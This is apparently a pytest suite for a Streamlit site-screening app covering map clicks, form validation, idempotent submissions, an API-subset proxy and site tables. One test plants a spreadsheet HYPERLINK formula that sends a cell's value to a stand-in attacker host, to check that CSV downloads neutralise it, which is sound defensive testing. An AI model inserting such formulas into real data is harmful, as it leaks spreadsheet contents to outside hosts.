"""Screen a site: drop the pin (typed or clicked), submit once, land on the assessment."""

from __future__ import annotations

import json
import re
import threading
import time

import h3
import httpx
import pandas as pd
import pytest
import uvicorn
from conftest import app_path, click_map, drawn_map, page_path, sent_map, unescape
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route
from streamlit.testing.v1 import AppTest

from components import geography, maps, picker, site_form, site_names
from components.server import map_rows
from gridservice.demo import DEMO_POINTS
from gridservice.runtime.server import bound_socket


def open_screen() -> AppTest:
    at = AppTest.from_file(app_path(), default_timeout=90)
    at.run()
    assert not at.exception
    return at


def type_point(at: AppTest, latitude: float, longitude: float) -> None:
    at.number_input(key="screen.latitude").set_value(latitude)
    at.number_input(key="screen.longitude").set_value(longitude)
    at.run()


def submit(at: AppTest, peak_mw: float | None = None) -> None:
    if peak_mw is not None:
        peak = next(n for n in at.number_input if n.label == "Requested peak load (MW) *")
        peak.set_value(peak_mw)
    next(b for b in at.button if b.label == "Create site and screen it").click()
    at.run()


def tenant_site_ids(client) -> list[str]:
    return [site.id for site in client.sites.list()]


def test_typed_point_creates_screens_and_opens_the_assessment(service_env, alpha_client):
    before = set(tenant_site_ids(alpha_client))
    at = open_screen()
    type_point(at, *DEMO_POINTS["dual_certified"])
    assert "**Location:** 29.88330, -97.94140" in [m.value for m in at.markdown]
    submit(at, peak_mw=321.0)
    assert not at.exception and not at.error
    assert [t.value.startswith("Assessment of ") for t in at.title] == [True]
    assessment_id = at.query_params["assessment"]
    assessment = alpha_client.assessments.get(assessment_id)
    site = alpha_client.sites.get(assessment.site_id)
    assert site.requested_peak_load_mw == 321.0
    assert set(tenant_site_ids(alpha_client)) - before == {site.id}
    assert unescape(at.warning[0].value) == assessment.disclaimer


def test_submitting_the_same_form_again_makes_one_site(service_env, alpha_client):
    at = open_screen()
    type_point(at, *DEMO_POINTS["single_territory"])
    submit(at, peak_mw=77.0)
    first = at.query_params["assessment"]
    count = len(tenant_site_ids(alpha_client))
    # A second click of the same form (same body) reuses the submission's Idempotency-Key.
    at.switch_page("app_pages/screen_site.py").run()
    type_point(at, *DEMO_POINTS["single_territory"])
    submit(at, peak_mw=77.0)
    assert not at.exception and not at.error
    second = at.query_params["assessment"]
    assert len(tenant_site_ids(alpha_client)) == count
    # ...and the screening call's key is derived from it, so it is not screened twice.
    assert second == first


def test_a_changed_form_after_success_makes_a_new_site(service_env, alpha_client):
    at = open_screen()
    type_point(at, *DEMO_POINTS["single_territory"])
    submit(at, peak_mw=60.0)
    count = len(tenant_site_ids(alpha_client))
    at.switch_page("app_pages/screen_site.py").run()
    type_point(at, *DEMO_POINTS["single_territory"])
    submit(at, peak_mw=61.0)
    assert not at.error
    assert len(tenant_site_ids(alpha_client)) == count + 1


def captions_in_form(at: AppTest) -> list[str]:
    return [c.value for c in at.caption if c.value.startswith(":red[")]


def test_what_the_form_cannot_read_is_named_under_its_field_and_not_sent(service_env, alpha_client):
    count = len(tenant_site_ids(alpha_client))
    at = open_screen()
    submit(at, peak_mw=10.0)
    assert any("Location is required" in c for c in captions_in_form(at))
    assert "The site was not sent" in " ".join(e.value for e in at.error)
    assert [t.value for t in at.title] == ["Screen a site"]
    assert len(tenant_site_ids(alpha_client)) == count


def test_the_services_field_errors_are_shown_under_their_fields(service_env, alpha_client):
    count = len(tenant_site_ids(alpha_client))
    at = open_screen()
    type_point(at, *DEMO_POINTS["single_territory"])
    next(t for t in at.text_input if t.label == "Country code").set_value("us")
    submit(at, peak_mw=10.0)
    assert not at.exception
    assert [t.value for t in at.title] == ["Screen a site"]
    under_fields = captions_in_form(at)
    assert any("should match pattern" in c for c in under_fields), under_fields
    summary = " ".join(e.value for e in at.error)
    assert "The site was not sent" in summary and "Request id:" in summary
    assert len(tenant_site_ids(alpha_client)) == count
    # a corrected submission clears the messages and goes through
    next(t for t in at.text_input if t.label == "Country code").set_value("US")
    submit(at, peak_mw=15.0)
    assert not at.error
    assert [t.value.startswith("Assessment of ") for t in at.title] == [True]


def test_an_empty_peak_load_is_refused_and_creates_nothing(service_env, alpha_client):
    """The peak load has no default: left empty it is an error, never a site screened at a
    load the analyst did not type."""
    count = len(tenant_site_ids(alpha_client))
    at = open_screen()
    type_point(at, *DEMO_POINTS["single_territory"])
    assert next(n for n in at.number_input if n.label == "Requested peak load (MW) *").value is None
    submit(at)
    assert any("Requested peak load (MW) is required" in unescape(c) for c in captions_in_form(at))
    assert "The site was not sent" in " ".join(e.value for e in at.error)
    assert len(tenant_site_ids(alpha_client)) == count


def test_a_reference_past_the_limit_is_named_with_its_length_and_not_sent(
    service_env, alpha_client
):
    """A pasted 400-character reference is kept in the field and refused in words, neither
    cut nor emptied; the field shows its limit."""
    count = len(tenant_site_ids(alpha_client))
    at = open_screen()
    type_point(at, *DEMO_POINTS["single_territory"])
    reference = next(t for t in at.text_input if t.label == "Customer reference")
    assert str(site_form.MAX_TEXT) in reference.placeholder
    reference.set_value("R" * 400)
    submit(at, peak_mw=10.0)
    assert next(t for t in at.text_input if t.label == "Customer reference").value == "R" * 400
    assert any(
        f"400 characters long; the limit is {site_form.MAX_TEXT}" in unescape(c)
        for c in captions_in_form(at)
    )
    assert len(tenant_site_ids(alpha_client)) == count


def test_the_services_length_refusal_is_said_in_the_apps_words(service_env, alpha_client):
    """A 5,000-character metadata note is refused by the service; its validator's sentence
    reaches the analyst in the app's words."""
    count = len(tenant_site_ids(alpha_client))
    at = open_screen()
    type_point(at, *DEMO_POINTS["single_territory"])
    note = next(t for t in at.text_area if t.label.startswith("Metadata"))
    note.set_value("note=" + "n" * 5000)
    submit(at, peak_mw=10.0)
    assert not at.exception
    shown = unescape(" ".join([*captions_in_form(at), *(e.value for e in at.error)]))
    assert "Too long: at most" in shown, shown
    assert "String should have" not in shown
    assert len(tenant_site_ids(alpha_client)) == count


def test_numbers_outside_their_bounds_are_named_with_the_bound_and_not_sent(
    service_env, alpha_client
):
    count = len(tenant_site_ids(alpha_client))
    at = open_screen()
    type_point(at, 95.0, -98.0)
    submit(at, peak_mw=6000.0)
    assert not at.exception
    summary = re.sub(r"\\(.)", r"\1", " ".join(e.value for e in at.error))
    assert "The site was not sent" in summary
    assert "Latitude must be between -90 and 90; it is 95." in summary
    assert "Requested peak load must be more than 0 and at most 5,000 MW" in summary
    assert any("5,000 MW" in c.replace("\\", "") for c in captions_in_form(at))
    assert len(tenant_site_ids(alpha_client)) == count
    submit(at, peak_mw=-50.0)
    assert "it is -50.0 MW" in re.sub(r"\\(.)", r"\1", " ".join(e.value for e in at.error))


def test_a_point_outside_the_data_is_warned_about_before_anything_is_created(
    service_env, alpha_client
):
    count = len(tenant_site_ids(alpha_client))
    at = open_screen()
    type_point(at, 51.5, -0.12)  # London
    warnings = " ".join(unescape(w.value) for w in at.warning)
    assert "no county the data covers" in warnings
    records = alpha_client.queue_records.list(limit=500)
    states = sorted({r.state.strip().upper() for r in records if r.state})
    assert f"The data covers counties in {', '.join(states)}" in warnings
    assert len(tenant_site_ids(alpha_client)) == count
    type_point(at, *DEMO_POINTS["single_territory"])
    assert not [w for w in at.warning if "no county the data covers" in w.value]


def session_value(at: AppTest, key: str):
    """Return a session-state value of the app under test, None when it is not set."""
    try:
        return at.session_state[key]
    except KeyError:
        return None


def click_at(at: AppTest, latitude: float, longitude: float) -> None:
    """Click the screening page's map at a point."""
    click_map(at, "screen", latitude, longitude)


def test_one_click_on_the_region_places_the_pin_and_shows_its_surroundings(service_env):
    latitude, longitude = DEMO_POINTS["dual_certified"]
    at = open_screen()
    assert at.number_input(key="screen.latitude").value is None
    click_at(at, latitude, longitude)
    assert at.number_input(key="screen.latitude").value == latitude
    assert at.number_input(key="screen.longitude").value == longitude
    assert f"**Location:** {latitude:.5f}, {longitude:.5f}" in [m.value for m in at.markdown]
    deck = drawn_map(at)
    layers = {layer.get("id"): layer for layer in deck["layers"]}
    assert (layers["pin"]["data"][0]["latitude"], layers["pin"]["data"][0]["longitude"]) == (
        latitude,
        longitude,
    )
    # the view came to the pin, with the county names around it and the scale bar
    assert deck["initialViewState"]["zoom"] == picker.NEAR_ZOOM
    assert deck["initialViewState"]["latitude"] == pytest.approx(latitude, abs=0.05)
    names = {row["text"] for row in layers["map_labels"]["data"]}
    assert {"Hays", "Travis", f"{picker.SCALE_KM} km"} <= names
    assert any(c.value.startswith("Click to move the pin") for c in at.caption)


def test_a_click_anywhere_in_the_lower_48_zooms_to_its_counties(service_env):
    harrisburg = (40.2732, -76.8867)  # far from the demo data: the map is the country's
    at = open_screen()
    opened = drawn_map(at)
    assert opened["initialViewState"]["zoom"] < 4 and "states" in {
        layer.get("id") for layer in opened["layers"]
    }
    click_at(at, *harrisburg)
    deck = drawn_map(at)
    assert deck["initialViewState"]["zoom"] == picker.NEAR_ZOOM
    assert deck["initialViewState"]["latitude"] == pytest.approx(harrisburg[0], abs=0.05)
    layers = {layer.get("id"): layer for layer in deck["layers"]}
    names = {row["text"] for row in layers["map_labels"]["data"]}
    assert {"Dauphin", "Cumberland", "Perry"} <= names
    # the pin's county outlined and lightly washed
    washed = [
        feature["properties"]["name"]
        for feature in layers[maps.COUNTY_LAYER_ID]["data"]
        if feature["properties"]["fill"] == picker.NEAR_HIGHLIGHT
    ]
    assert washed == ["Dauphin"]


def test_a_click_in_the_surroundings_moves_the_pin_and_keeps_the_view(service_env):
    latitude, longitude = DEMO_POINTS["dual_certified"]
    at = open_screen()
    click_at(at, latitude, longitude)
    view = drawn_map(at)["initialViewState"]
    moved_to = (round(latitude + 0.05, 5), round(longitude + 0.08, 5))
    click_at(at, *moved_to)
    assert (
        at.number_input(key="screen.latitude").value,
        at.number_input(key="screen.longitude").value,
    ) == moved_to
    assert drawn_map(at)["initialViewState"] == view
    # the same click seen again (a rerun for another reason) does not move the pin back
    type_point(at, latitude, longitude)
    at.run()
    assert at.number_input(key="screen.latitude").value == latitude
    # a click past the surroundings (the map dragged away) brings the view to the new pin
    click_at(at, latitude + 1.5, longitude)
    moved = drawn_map(at)["initialViewState"]
    assert moved["latitude"] == pytest.approx(latitude + 1.5, abs=0.05)
    assert moved["zoom"] == picker.NEAR_ZOOM


def test_a_click_in_the_surroundings_sends_the_browser_only_a_new_pin(service_env):
    # the browser builds the map again whenever its deck JSON changes: a click in the same
    # county leaves it byte for byte as it was, and only the pin moves
    latitude, longitude = DEMO_POINTS["dual_certified"]
    second = (round(latitude + 0.01, 5), round(longitude - 0.01, 5))
    counties = geography.region_counties()
    assert geography.county_at(counties, latitude, longitude) == geography.county_at(
        counties, *second
    )
    at = open_screen()
    click_at(at, latitude, longitude)
    click_at(at, latitude + 0.005, longitude)
    before = sent_map(at)
    click_at(at, *second)
    after = sent_map(at)
    assert after["deck"] == before["deck"]
    layers = json.loads(after["deck"])["layers"]
    # rows by URL: a `data:` URL, or the address of rows the app serves (the states' outlines)
    assert len(layers) >= 5 and all(
        layer["data"].startswith(maps.ROWS_URL_PREFIX) or map_rows.digest_of(layer["data"])
        for layer in layers
    )
    assert maps.PIN_LAYER_ID not in {layer.get("id") for layer in layers}
    pin = after["pin"]["data"][0]
    assert (pin["latitude"], pin["longitude"]) == second
    # the map's view and controller: no double-click zoom (a double click would zoom too)
    assert json.loads(after["deck"])["views"][0]["controller"] == {"doubleClickZoom": False}


def test_the_site_created_after_two_clicks_stands_at_the_last_clicked_point(
    service_env, alpha_client
):
    # (that the form keeps typed, unsent values across clicks is the browser's part:
    # tests/e2e/test_map_picker.py; AppTest drops a form's unsent values on every run)
    latitude, longitude = DEMO_POINTS["dual_certified"]
    at = open_screen()
    last = (round(latitude + 0.00123, 5), round(longitude - 0.00456, 5))
    click_at(at, latitude + 0.2, longitude - 0.1)
    click_at(at, *last)
    submit(at, peak_mw=275.0)
    assert [t.value.startswith("Assessment of ") for t in at.title] == [True]
    assessment = alpha_client.assessments.get(at.query_params["assessment"])
    site = alpha_client.sites.get(assessment.site_id)
    assert site.requested_peak_load_mw == 275.0
    assert (site.location.latitude, site.location.longitude) == last


def test_a_typed_point_moves_the_map_to_it_and_draws_the_pin(service_env):
    latitude, longitude = DEMO_POINTS["dual_certified"]
    at = open_screen()
    click_at(at, 32.78, -96.8)  # Dallas first
    type_point(at, latitude, longitude)
    deck = drawn_map(at)
    around = h3.cell_to_latlng(h3.latlng_to_cell(latitude, longitude, picker.NEAR_RES))
    assert deck["initialViewState"]["latitude"] == pytest.approx(around[0])
    assert deck["initialViewState"]["longitude"] == pytest.approx(around[1])
    pin = next(layer for layer in deck["layers"] if layer.get("id") == "pin")
    assert (pin["data"][0]["latitude"], pin["data"][0]["longitude"]) == (latitude, longitude)
    next(b for b in at.button if b.label == "Whole country").click()
    at.run()
    assert drawn_map(at)["initialViewState"]["zoom"] == picker.country_view().zoom
    assert at.number_input(key="screen.latitude").value == latitude  # the pin stays


LONG_NAME = "Dallas load pocket, north yard: the second campus of the Trinity River plan"


def test_the_tenants_sites_list_their_assessments_and_open_them(service_env, alpha_client):
    site = alpha_client.sites.create(
        {
            "requestedPeakLoadMw": 12.0,
            "location": {"latitude": 32.78, "longitude": -96.8},
            "customerReference": LONG_NAME,
        },
        idempotency_key="screen-list-test-site",
    )
    assessment = alpha_client.assessments.create(site.id)
    at = open_screen()
    table = at.dataframe[0].value
    row = table[table["Assessment"] == assessment.id].iloc[0]
    assert row["Site"] == site.id
    assert row["Open"] == f"assessment?assessment={assessment.id}"
    # the name is longer than the Site column beside the other key columns: the column's
    # header names it whole in its tooltip
    column = json.loads(at.dataframe[0].proto.columns)["Name"]
    assert column["label"] == "Site" and column["width"] == site_names.SITE_PX_MAX
    assert not column.get("pinned")  # the table fits: its names are not drawn grey
    assert LONG_NAME in unescape(column["help"])
    picker = at.selectbox(key="screen.open_assessment")
    # the picker names each assessment by its site's name, readiness and date, not its id
    assert any(
        option.startswith(f"{LONG_NAME} — {row['Readiness']} — ") for option in picker.options
    )
    # (a site without a customer reference is named by its id, as in the table)
    assert not [option for option in picker.options if "asm_" in option]
    picker.set_value(assessment.id)
    next(b for b in at.button if b.label == "Open assessment" and not b.form_id).click()
    at.run()
    assert at.query_params["assessment"] == assessment.id
    assert [t.value.startswith("Assessment of ") for t in at.title] == [True]


# Deployments with fewer extensions than the reference service: a proxy in front of it that
# answers 404 for the operations it leaves out (and drops them from its OpenAPI document).
FORWARDED_HEADERS = ("authorization", "idempotency-key", "content-type", "service-version")


def is_extension(method: str, path: str) -> bool:
    return (
        path == "/v1/openapi.json"
        or (method == "GET" and path == "/v1/sites")
        or path.endswith("/assessments")
        or path.endswith("/exports")
    )


def not_found(path: str) -> JSONResponse:
    problem = {
        "type": "/problems/not-found",
        "title": "Not found",
        "status": 404,
        "detail": f"No operation at {path}.",
        "instance": path,
    }
    return JSONResponse(problem, 404, media_type="application/problem+json")


class Deployment:
    """A proxy to the reference service that offers only some extensions, and logs requests.

    `offers(method, path)` says which extension operations exist; `latest_assessment` whether
    `GET /v1/sites` takes `include`; `openapi` whether an OpenAPI document is served at all.
    """

    def __init__(self, upstream_url: str) -> None:
        self.upstream = httpx.AsyncClient(base_url=upstream_url)
        self.offers = lambda method, path: False
        self.latest_assessment = False
        self.openapi = False
        self.requests: list[tuple[str, str, str]] = []

    async def forward(self, request: Request) -> Response:
        path, method = request.url.path, request.method
        self.requests.append((method, path, str(request.query_params)))
        if path == "/v1/openapi.json":
            return await self.document() if self.openapi else not_found(path)
        if is_extension(method, path) and not self.offers(method, path):
            return not_found(path)
        if "include" in request.query_params and not self.latest_assessment:
            return JSONResponse({"title": "Unknown parameter", "status": 400}, 400)
        headers = {k: v for k, v in request.headers.items() if k.lower() in FORWARDED_HEADERS}
        reply = await self.upstream.request(
            method, path, params=request.query_params, content=await request.body(), headers=headers
        )
        keep = {
            k: v for k, v in reply.headers.items() if k.lower() in ("content-type", "x-request-id")
        }
        return Response(reply.content, reply.status_code, headers=keep)

    async def document(self) -> Response:
        document = (await self.upstream.get("/v1/openapi.json")).json()
        for path, item in document["paths"].items():
            for method in [m for m in item if is_extension(m.upper(), path)]:
                if not self.offers(method.upper(), path):
                    del item[method]
        listing = document["paths"]["/v1/sites"].get("get")
        if listing and not self.latest_assessment:
            listing["parameters"] = [p for p in listing["parameters"] if p["name"] != "include"]
        return JSONResponse(document)

    def app(self) -> Starlette:
        return Starlette(routes=[Route("/{path:path}", self.forward, methods=["GET", "POST"])])


@pytest.fixture(scope="module")
def deployment(demo_service):
    proxy = Deployment(demo_service)
    sock = bound_socket("127.0.0.1", 0)
    server = uvicorn.Server(uvicorn.Config(proxy.app(), log_level="warning"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.01)
    host, port = sock.getsockname()[:2]
    proxy.base_url = f"http://{host}:{port}"
    yield proxy
    server.should_exit = True
    thread.join(10)
    sock.close()


@pytest.fixture
def plain_env(service_env, deployment, monkeypatch):
    """The published interface only: no OpenAPI document, no extension operations."""
    deployment.offers = lambda method, path: False
    deployment.openapi = deployment.latest_assessment = False
    monkeypatch.setenv("GRID_API_BASE_URL", deployment.base_url)
    return deployment.base_url


def use_deployment(deployment, monkeypatch, offers, *, latest_assessment: bool) -> None:
    deployment.offers = offers
    deployment.openapi, deployment.latest_assessment = True, latest_assessment
    deployment.requests.clear()
    monkeypatch.setenv("GRID_API_BASE_URL", deployment.base_url)


def assessed_site(client, reference: str):
    site = client.sites.create(
        {"requestedPeakLoadMw": 12.0, "location": {"latitude": 32.78, "longitude": -96.8}},
        idempotency_key=f"deployment-test-{reference}",
    )
    client.assessments.create(site.id)
    return site, client.assessments.create(site.id)


def test_a_deployment_that_only_lists_sites_shows_them_and_the_id_box(
    service_env, deployment, monkeypatch, alpha_client
):
    # It used to ask for each site's assessments too (any one extension sufficed): the
    # 404 showed as an error and hid the box to open an assessment by its id.
    site, _ = assessed_site(alpha_client, "sites-only")
    only_sites = lambda method, path: method == "GET" and path == "/v1/sites"  # noqa: E731
    use_deployment(deployment, monkeypatch, only_sites, latest_assessment=False)
    at = open_screen()
    assert not at.error
    table = at.dataframe[0].value
    assert site.id in table["Site"].tolist()
    assert table["Assessment"].isna().all()
    assert "Assessment id" in [t.label for t in at.text_input]
    assert not [r for r in deployment.requests if r[1].endswith("/assessments")]


def test_sites_and_their_latest_assessments_come_in_one_request(
    service_env, deployment, monkeypatch, alpha_client
):
    # It used to ask for every site's assessments, one request per site.
    for number in range(3):
        assessed_site(alpha_client, f"one-request-{number}")
    use_deployment(deployment, monkeypatch, lambda m, p: True, latest_assessment=True)
    at = open_screen()
    assert not at.error
    site_lists = [r for r in deployment.requests if r[:2] == ("GET", "/v1/sites")]
    assert len(site_lists) == 1 and "include=latest_assessment" in site_lists[0][2]
    assert not [r for r in deployment.requests if r[1].endswith("/assessments")]
    newest = {
        s.id: s.latest_assessment for s in alpha_client.sites.list(include_latest_assessment=True)
    }
    table = at.dataframe[0].value.set_index("Site")
    for site_id, latest in newest.items():
        shown = table.loc[site_id, "Assessment"]
        assert shown == latest.id if latest else pd.isna(shown)


def test_without_the_include_extension_each_sites_latest_assessment_is_still_shown(
    service_env, deployment, monkeypatch, alpha_client
):
    site, latest = assessed_site(alpha_client, "no-include")
    use_deployment(deployment, monkeypatch, lambda m, p: True, latest_assessment=False)
    at = open_screen()
    assert not at.error
    table = at.dataframe[0].value.set_index("Site")
    assert table.loc[site.id, "Assessment"] == latest.id
    assert not [r for r in deployment.requests if "include" in r[2]]


def test_screen_page_offers_the_id_box_and_still_creates_sites(plain_env, alpha_client):
    at = AppTest.from_file(app_path(), default_timeout=90)
    at.run()
    assert not at.exception and not at.error
    assert "This deployment does not list sites; open an assessment by its id." in [
        i.value for i in at.info
    ]
    assert not at.dataframe
    at.number_input(key="screen.latitude").set_value(DEMO_POINTS["single_territory"][0])
    at.number_input(key="screen.longitude").set_value(DEMO_POINTS["single_territory"][1])
    at.run()
    submit(at, peak_mw=100.0)
    assert not at.error
    success = at.success[0].value
    assert success.endswith("This deployment does not screen sites on request.")
    site_id = unescape(success).split()[1]
    assert alpha_client.sites.get(site_id).tenant_id == "demo-alpha"


def test_an_assessment_opens_by_id_without_the_export_extension(plain_env, alpha_client):
    site = alpha_client.sites.create(
        {"requestedPeakLoadMw": 20.0, "location": {"latitude": 29.76, "longitude": -95.37}},
        idempotency_key="plain-deployment-site",
    )
    assessment = alpha_client.assessments.create(site.id)  # made on the full service
    at = AppTest.from_file(app_path(), default_timeout=90)
    at.run()
    box = next(t for t in at.text_input if t.label == "Assessment id")
    box.set_value(assessment.id)
    next(b for b in at.button if b.label == "Open assessment").click()
    at.run()
    assert [t.value.startswith("Assessment of ") for t in at.title] == [True]
    assert unescape(at.warning[0].value) == assessment.disclaimer
    assert "Prepare the CSV export" not in [b.label for b in at.button]
    assert "Or open an export by id" in [t.label for t in at.text_input]


def test_assessment_page_alone_reads_through_the_plain_deployment(plain_env, alpha_client):
    site = alpha_client.sites.create(
        {"requestedPeakLoadMw": 30.0, "location": {"latitude": 29.76, "longitude": -95.37}},
        idempotency_key="plain-deployment-site-2",
    )
    assessment = alpha_client.assessments.create(site.id)
    at = AppTest.from_file(page_path("assessment"), default_timeout=90)
    at.query_params["assessment"] = assessment.id
    at.run()
    assert not at.exception and not at.error
    labels = [button.proto.label for button in at.get("download_button")]
    assert any(label.startswith("Expert-review packet (") for label in labels), labels


def test_the_sites_table_offers_no_formula_for_download(service_env, alpha_client):
    """Streamlit offers the sites table as "Download as CSV" with the cells as drawn; a
    customer reference a spreadsheet would run is drawn (and so downloaded) with a `'`."""
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    latitude, longitude = DEMO_POINTS["dual_certified"]
    site = alpha_client.sites.create(
        {
            "requestedPeakLoadMw": 50.0,
            "location": {"latitude": latitude, "longitude": longitude},
            "customerReference": hostile,
        },
        idempotency_key="formula-reference-site",
    )
    at = open_screen()
    frame = next(f.value for f in at.dataframe if "Customer reference" in f.value.columns)
    cells = frame.loc[frame["Site"] == site.id, "Customer reference"].tolist()
    assert cells == ["'" + hostile]


def test_the_surroundings_show_plants_by_size_and_each_countys_queue_points(
    service_env, alpha_client
):
    latitude, longitude = DEMO_POINTS["dual_certified"]
    at = open_screen()
    click_at(at, latitude, longitude)
    layers = {layer.get("id"): layer for layer in drawn_map(at)["layers"]}
    # every located plant inside the surroundings box is drawn, the bigger the wider
    south, west, north, east = picker.near_box(*h3.cell_to_latlng(session_value(at, "screen.cell")))
    megawatts: dict[int, float] = {}
    for generator in alpha_client.generators.list(limit=500):
        plant = generator.agency_plant_id
        megawatts[plant] = megawatts.get(plant, 0.0) + (generator.nameplate_capacity_mw or 0.0)
    inside = {
        (round(p.longitude, 5), round(p.latitude, 5)): megawatts.get(p.agency_plant_id, 0.0)
        for p in alpha_client.generation_plants.list(limit=500)
        if p.latitude is not None and south <= p.latitude <= north and west <= p.longitude <= east
    }
    drawn = {tuple(row["position"]): row["radius"] for row in layers["grid_plants"]["data"]}
    assert inside and set(drawn) == set(inside)
    assert layers["grid_plants"]["pickable"] is False  # a click goes through to the map
    smallest, biggest = min(inside, key=inside.get), max(inside, key=inside.get)
    assert inside[biggest] > inside[smallest] and drawn[biggest] > drawn[smallest]
    # Hays County's active requests: distinct points of interconnection and their MW
    hays = [
        r
        for r in alpha_client.queue_records.list(limit=500)
        if r.county == "Hays" and r.status_now is not None and r.status_now.counts_as_active
    ]
    named = [r.point_of_interconnection for r in hays if r.point_of_interconnection]
    points = {" ".join(point.split()).casefold() for point in named}
    hays_mw = sum(r.requested_capacity_mw or 0.0 for r in hays)
    texts = {row["text"] for row in layers["map_labels"]["data"]}
    assert f"{len(points)} queue POIs · {hays_mw:,.0f} MW" in texts
    assert any(":orange[**queue POIs · MW**]" in c.value for c in at.caption)


def test_the_coordinates_head_the_form_beside_the_map(service_env):
    at = open_screen()
    map_column, form_column = at.columns[0], at.columns[1]
    assert map_column.get("component_instance")
    keys = [n.key for n in form_column.number_input]
    assert keys[:2] == ["screen.latitude", "screen.longitude"]
    assert "Create site and screen it" in [b.label for b in form_column.get("form_submit_button")]
    assert not [n for n in map_column.number_input if n.key.startswith("screen.l")]


def test_the_map_keeps_its_place_while_the_grid_loads(service_env):
    # The browser reloads a frame whose element moves, and Streamlit never hands a reloaded
    # frame its map again: whatever the picker draws while the grid loads (progress bars)
    # must not come before the map and push it down.
    import streamlit as st

    def place(at: AppTest) -> int:
        column = at.columns[0]
        return next(i for i, e in column.children.items() if e.type == "component_instance")

    latitude, longitude = DEMO_POINTS["dual_certified"]
    at = open_screen()
    first = place(at)
    # the grid's lists load (with progress) at the first click: forgotten here, after the
    # app started loading them in the background once the page had run
    st.cache_resource.clear()
    click_at(at, latitude, longitude)  # the surroundings: plants and queue load now
    assert place(at) == first
    # what the loading drew (progress bars, emptied once done) is there, above the map
    loading = at.columns[0].children[first - 1]
    assert len(loading.children) >= 3
    click_at(at, latitude + 0.01, longitude)  # the lists are held: nothing loads
    assert place(at) == first


def test_a_tenant_with_more_than_200_sites_lists_every_one_newest_first(many_sites_env):
    # The list used to stop at 200 sites, in the service's order (by id: any 200).
    listed = many_sites_env.sites.list().to_list()
    newest_first = sorted(listed, key=lambda s: s.created_at, reverse=True)
    at = open_screen()
    assert not at.error
    table = at.dataframe[0].value
    assert table["Site"].tolist() == [s.id for s in newest_first]
    assert table["Customer reference"].iloc[0] == "Bulk site 204"


def test_without_assessments_in_the_listing_the_newest_sites_are_looked_up_and_it_says_so(
    many_sites_env, monkeypatch
):
    from components import data
    from components.data import tenant
    from gridclient import Capabilities

    spec_only = Capabilities(list_sites=True, list_assessments=True)
    for module in (data, tenant):
        monkeypatch.setattr(module, "capabilities", lambda conn: spec_only)
    listed = many_sites_env.sites.list().to_list()
    newest = sorted(listed, key=lambda s: s.created_at, reverse=True)[:200]
    sent: list[str] = []
    send = httpx.Client.send
    monkeypatch.setattr(
        httpx.Client,
        "send",
        lambda c, request, **kw: sent.append(request.url.path) or send(c, request, **kw),
    )
    at = open_screen()
    assert not at.error
    assert len(at.dataframe[0].value) == 205
    assert (
        "This deployment lists sites without their assessments: the newest 200 of your 205 "
        "sites show theirs." in [c.value for c in at.caption]
    )
    looked_up = [p for p in sent if p.endswith("/assessments")]
    assert sorted(looked_up) == sorted(f"/v1/sites/{s.id}/assessments" for s in newest)


def test_your_sites_lead_with_name_readiness_and_peak_load(service_env, alpha_client):
    """The sites table showed ids and coordinates first; readiness was off screen at 1280 px."""
    latitude, longitude = DEMO_POINTS["dual_certified"]
    alpha_client.sites.create(
        {
            "requestedPeakLoadMw": 75.0,
            "location": {"latitude": latitude, "longitude": longitude},
            "customerReference": "Key columns campus",
        },
        idempotency_key="key-columns-site",
    )
    at = open_screen()
    sites = next(d for d in at.dataframe if "Customer reference" in d.value.columns)
    shown = list(sites.proto.column_order)
    assert {"Name", "Readiness", "Peak MW"} <= set(shown)
    assert "Latitude" not in shown and "Site" not in shown
    assert "Key columns campus" in set(sites.value["Name"])
